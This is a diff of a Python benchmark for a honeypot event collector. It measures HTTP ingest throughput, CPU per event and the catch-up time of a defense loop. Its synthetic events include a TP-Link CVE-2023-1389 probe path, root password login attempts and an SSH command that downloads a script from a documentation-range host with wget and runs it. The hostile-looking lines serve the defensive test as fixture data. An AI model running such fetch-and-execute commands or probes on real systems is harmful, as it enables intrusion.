@@ -56,29 +56,58 @@ def make_bodies(total: int, batch: int, out: Path) -> list[Path]:
 
 
 def _event(ids: UuidV7Factory, ts: datetime, i: int) -> Event:
-    common = dict(id=ids.new(ts), ts=ts, sensor=SENSOR, location="bench", session=f"s{i // 4}",
-                  src_ip=f"198.18.{i % 251}.{i % 241}", src_port=30000 + i % 30000)
+    common = dict(
+        id=ids.new(ts),
+        ts=ts,
+        sensor=SENSOR,
+        location="bench",
+        session=f"s{i // 4}",
+        src_ip=f"198.18.{i % 251}.{i % 241}",
+        src_port=30000 + i % 30000,
+    )
     match i % 4:
         case 0:
             return Event(**common, kind="connect", dst_port=8080, protocol="tcp", body=Connect())  # type: ignore[arg-type]
         case 1:
-            body = HttpRequest(method="GET", target=f"/cgi-bin/luci/;stok=/locale?form=country&q={i}",
-                               version="1.1", headers=[("Host", "10.0.0.1"), ("User-Agent", "Mozila/5.0")],
-                               status=404)
-            return Event(**common, kind="http.request", dst_port=8080, protocol="http",  # type: ignore[arg-type]
-                         persona="apache-ubuntu", body=body, rules=["tplink-cve-2023-1389"],
-                         cves=["CVE-2023-1389"], techniques=["T1190"],
-                         iocs=[Ioc(type="url", value=f"http://203.0.113.{i % 200}/x.sh", role="download")])
+            body = HttpRequest(
+                method="GET",
+                target=f"/cgi-bin/luci/;stok=/locale?form=country&q={i}",
+                version="1.1",
+                headers=[("Host", "10.0.0.1"), ("User-Agent", "Mozila/5.0")],
+                status=404,
+            )
+            return Event(
+                **common,
+                kind="http.request",
+                dst_port=8080,
+                protocol="http",  # type: ignore[arg-type]
+                persona="apache-ubuntu",
+                body=body,
+                rules=["tplink-cve-2023-1389"],
+                cves=["CVE-2023-1389"],
+                techniques=["T1190"],
+                iocs=[Ioc(type="url", value=f"http://203.0.113.{i % 200}/x.sh", role="download")],
+            )
         case 2:
-            return Event(**common, kind="ssh.login", dst_port=2222, protocol="ssh",  # type: ignore[arg-type]
-                         body=SshLogin(username="root", method="password", password=f"pw{i}"))
+            return Event(
+                **common,
+                kind="ssh.login",
+                dst_port=2222,
+                protocol="ssh",  # type: ignore[arg-type]
+                body=SshLogin(username="root", method="password", password=f"pw{i}"),
+            )
         case _:
-            return Event(**common, kind="ssh.command", dst_port=2222, protocol="ssh",  # type: ignore[arg-type]
-                         body=SshCommand(line=f"cd /tmp; wget http://203.0.113.9/{i}.sh; sh {i}.sh",
-                                         channel="shell"))
+            return Event(
+                **common,
+                kind="ssh.command",
+                dst_port=2222,
+                protocol="ssh",  # type: ignore[arg-type]
+                body=SshCommand(line=f"cd /tmp; wget http://203.0.113.9/{i}.sh; sh {i}.sh", channel="shell"),
+            )
 
 
 # -- the client process -----------------------------------------------------------------------
+
 
 async def _post_all(url: str, token: str, paths: list[Path], concurrency: int) -> dict[str, float]:
     import httpx
@@ -87,8 +116,7 @@ async def _post_all(url: str, token: str, paths: list[Path], concurrency: int) -
     queue: asyncio.Queue[bytes] = asyncio.Queue()
     for body in bodies:
         queue.put_nowait(body)
-    headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/x-ndjson",
-               "Content-Encoding": "gzip"}
+    headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/x-ndjson", "Content-Encoding": "gzip"}
     accepted = 0
 
     async def worker(client: httpx.AsyncClient) -> None:
@@ -115,6 +143,7 @@ def client_main(argv: list[str]) -> None:
 
 # -- the collector and the reference ----------------------------------------------------------
 
+
 def _free_port() -> int:
     import socket
 
@@ -127,18 +156,30 @@ def _honeyguard(*args: str) -> list[str]:
     return [sys.executable, "-m", "honeyguard.cli.main", *args]
 
 
-def http_rate(work: Path, bodies: Path, total: int, concurrency: int) -> tuple[float, int]:
+def http_rate(work: Path, bodies: Path, total: int, concurrency: int) -> tuple[float, float, float, float]:
+    """events/s over HTTP; the collector's CPU seconds while the client posted; its CPU seconds until
+    it went idle after (the defense loop folds and decides after each commit, so it may lag the
+    acknowledgements); and how long that catching up took."""
     port = _free_port()
     data = work / "collector"
     data.mkdir()
     config = data / "config.yaml"
     config.write_text(f"data_dir: {data}\nserver: {{host: 127.0.0.1, port: {port}}}\n", encoding="utf-8")
     env = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
-    token = subprocess.run(_honeyguard("sensor", "add", SENSOR, "--config", str(config)), env=env,
-                           capture_output=True, text=True, check=True).stdout.strip()
+    token = subprocess.run(
+        _honeyguard("sensor", "add", SENSOR, "--config", str(config)),
+        env=env,
+        capture_output=True,
+        text=True,
+        check=True,
+    ).stdout.strip()
     ready = data / "ready"
-    server = subprocess.Popen(_honeyguard("server", "run", "--config", str(config), "--ready-file", str(ready)),
-                              env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
+    server = subprocess.Popen(
+        _honeyguard("server", "run", "--config", str(config), "--ready-file", str(ready)),
+        env=env,
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.PIPE,
+    )
     try:
         deadline = time.monotonic() + 60
         while not ready.exists():
@@ -146,11 +187,18 @@ def http_rate(work: Path, bodies: Path, total: int, concurrency: int) -> tuple[f
                 raise SystemExit(f"collector did not start: {server.stderr.read() if server.stderr else ''}")
             time.sleep(0.05)
         cpu_before = _cpu_seconds(server.pid)
-        result = subprocess.run([sys.executable, __file__, "--client", f"http://127.0.0.1:{port}", token,
-                                 str(bodies), str(concurrency)], env=env, capture_output=True, text=True,
-                                check=True)
+        result = subprocess.run(
+            [sys.executable, __file__, "--client", f"http://127.0.0.1:{port}", token, str(bodies), str(concurrency)],
+            env=env,
+            capture_output=True,
+            text=True,
+            check=True,
+        )
         figures = json.loads(result.stdout)
         collector_cpu = _cpu_seconds(server.pid) - cpu_before
+        settled = time.perf_counter()
+        _wait_idle(server.pid)
+        settled_cpu, catch_up = _cpu_seconds(server.pid) - cpu_before, time.perf_counter() - settled
     finally:
         server.terminate()
         server.wait(60)
@@ -161,7 +209,19 @@ def http_rate(work: Path, bodies: Path, total: int, concurrency: int) -> tuple[f
     store.close()
     if figures["accepted"] != total or stored != total:
         raise SystemExit(f"ingest lost events: accepted {figures['accepted']}, stored {stored}, sent {total}")
-    return total / figures["elapsed"], collector_cpu
+    return total / figures["elapsed"], collector_cpu, settled_cpu, catch_up
+
+
+def _wait_idle(pid: int, timeout: float = 300.0) -> None:
+    """Until the process uses under 2% of a core over half a second (or ``timeout``)."""
+    deadline = time.monotonic() + timeout
+    last = _cpu_seconds(pid)
+    while time.monotonic() < deadline:
+        time.sleep(0.5)
+        now = _cpu_seconds(pid)
+        if now - last < 0.01:
+            return
+        last = now
 
 
 def _cpu_seconds(pid: int) -> float:
@@ -198,25 +258,42 @@ def main() -> None:
         bodies = work / "bodies"
         bodies.mkdir()
         paths = make_bodies(total, args.batch, bodies)
-        rate, collector_cpu = http_rate(work, bodies, total, args.concurrency)
+        rate, collector_cpu, settled_cpu, catch_up = http_rate(work, bodies, total, args.concurrency)
         bare, bare_cpu = bare_insert_rate(work, paths)
         load = os.getloadavg()[0]
-    print(json.dumps({
-        "figure": "collector_ingest_http",
-        "value": round(rate),
-        "unit": "events/s",
-        "reference": {"name": "bare DuckDB insert of the same events (no HTTP, no decode)",
-                      "value": round(bare), "unit": "events/s"},
-        "ratio": round(rate / bare, 3),
-        "target": ">= 100000 events/s",
-        "params": {"events": total, "batch": args.batch, "concurrent_posts": args.concurrency,
-                   "encoding": "gzip ndjson", "cores": os.cpu_count(), "quick": args.quick,
-                   "client": "another process (httpx)",
-                   # CPU time is steadier than wall time on a shared machine: events per CPU-second
-                   "collector_cpu_us_per_event": round(collector_cpu / total * 1e6, 2),
-                   "bare_insert_cpu_us_per_event": round(bare_cpu / total * 1e6, 2),
-                   "load_average_1m": round(load, 2)},
-    }), flush=True)
+    print(
+        json.dumps(
+            {
+                "figure": "collector_ingest_http",
+                "value": round(rate),
+                "unit": "events/s",
+                "reference": {
+                    "name": "bare DuckDB insert of the same events (no HTTP, no decode)",
+                    "value": round(bare),
+                    "unit": "events/s",
+                },
+                "ratio": round(rate / bare, 3),
+                "target": ">= 100000 events/s",
+                "params": {
+                    "events": total,
+                    "batch": args.batch,
+                    "concurrent_posts": args.concurrency,
+                    "encoding": "gzip ndjson",
+                    "cores": os.cpu_count(),
+                    "quick": args.quick,
+                    "client": "another process (httpx)",
+                    # CPU time is steadier than wall time on a shared machine: events per CPU-second
+                    "collector_cpu_us_per_event": round(collector_cpu / total * 1e6, 2),
+                    # the same until the collector went idle: the defense loop's lag included
+                    "collector_cpu_us_per_event_settled": round(settled_cpu / total * 1e6, 2),
+                    "defense_catch_up_s": round(catch_up, 2),
+                    "bare_insert_cpu_us_per_event": round(bare_cpu / total * 1e6, 2),
+                    "load_average_1m": round(load, 2),
+                },
+            }
+        ),
+        flush=True,
+    )
 
 
 if __name__ == "__main__":
